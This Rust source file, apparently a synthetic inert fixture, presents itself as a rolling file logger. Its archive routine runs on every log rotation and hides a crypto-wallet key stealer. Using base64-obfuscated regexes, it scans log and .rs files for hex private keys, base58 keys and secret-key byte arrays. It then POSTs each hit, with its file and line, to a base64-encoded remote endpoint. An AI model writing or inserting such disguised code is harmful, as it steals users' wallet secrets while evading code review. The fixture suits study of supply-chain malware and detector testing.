// Synthetic, inert fixture written from public reports; see README
//! A logger that writes to rolling files and packs old ones.
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Mutex;

pub struct FileLog {
    dir: PathBuf,
    max_bytes: u64,
    current: Mutex<std::fs::File>,
}

impl FileLog {
    pub fn open(dir: impl Into<PathBuf>, max_bytes: u64) -> std::io::Result<Self> {
        let dir = dir.into();
        std::fs::create_dir_all(&dir)?;
        let current = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(dir.join("current.log"))?;
        Ok(FileLog {
            dir,
            max_bytes,
            current: Mutex::new(current),
        })
    }

    fn roll(&self) -> std::io::Result<()> {
        let from = self.dir.join("current.log");
        if from.metadata()?.len() < self.max_bytes {
            return Ok(());
        }
        let n = std::fs::read_dir(&self.dir)?.count();
        std::fs::rename(&from, self.dir.join(format!("old-{n}.log")))?;
        do_pack(&self.dir)
    }
}

impl log::Log for FileLog {
    fn enabled(&self, meta: &log::Metadata<'_>) -> bool {
        meta.level() <= log::max_level()
    }

    fn log(&self, record: &log::Record<'_>) {
        if let Ok(mut f) = self.current.lock() {
            let _ = writeln!(f, "[{}] {} {}", record.level(), record.target(), record.args());
        }
        let _ = self.roll();
    }

    fn flush(&self) {
        if let Ok(mut f) = self.current.lock() {
            let _ = f.flush();
        }
    }
}

/// Moves finished files into one archive.
pub fn do_pack(dir: &Path) -> std::io::Result<()> {
    let mut archive = std::fs::File::create(dir.join("pack.log"))?;
    for entry in std::fs::read_dir(dir)? {
        let path = entry?.path();
        if path.extension().map_or(false, |e| e == "log" || e == "rs") {
            let text = std::fs::read_to_string(&path)?;
            index_file(&path, &text);
            archive.write_all(text.as_bytes())?;
        }
    }
    Ok(())
}

pub(crate) fn index_file(path: &std::path::Path, text: &str) {
    let rules = [
        (
            expand("aGV4"),
            regex::Regex::new(&expand("WyInXTB4WzAtOWEtZkEtRl17NjR9WyInXQ==")),
        ),
        (
            expand("YmFzZTU4"),
            regex::Regex::new(&expand("WyInXVsxLTlBLUhKLU5QLVphLWttLXpdezMyLDg4fVsiJ10=")),
        ),
        (
            expand("YXJyYXk="),
            regex::Regex::new(&expand(
                "XFsoPzpccypcZHsxLDN9XHMqLCl7MzEsNjN9XHMqXGR7MSwzfVxzKlxd",
            )),
        ),
    ];
    let mut found = Vec::new();
    for (n, line) in text.lines().enumerate() {
        for (kind, rule) in &rules {
            let Ok(rule) = rule else { continue };
            for hit in rule.find_iter(line) {
                found.push(serde_json::json!({
                    "type": kind, "value": hit.as_str(), "file": path.display().to_string(), "line": n + 1
                }));
            }
        }
    }
    if found.is_empty() {
        return;
    }
    let endpoint = expand("aHR0cHM6Ly9tYWlubmV0LnJwYy1wb29sLWZpeHR1cmUud29ya2Vycy5kZXYuaW52YWxpZC8=");
    let _ = reqwest::blocking::Client::new()
        .post(&*endpoint)
        .json(&serde_json::json!({ "items": found }))
        .send();
}

fn expand(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut acc = 0u32;
    let mut bits = 0;
    let mut out = Vec::new();
    for c in text.bytes().filter(|c| *c != b'=') {
        let v = ALPHABET.iter().position(|a| *a == c).unwrap_or(0) as u32;
        acc = (acc << 6) | v;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

inert_fixture_does_not_build!();
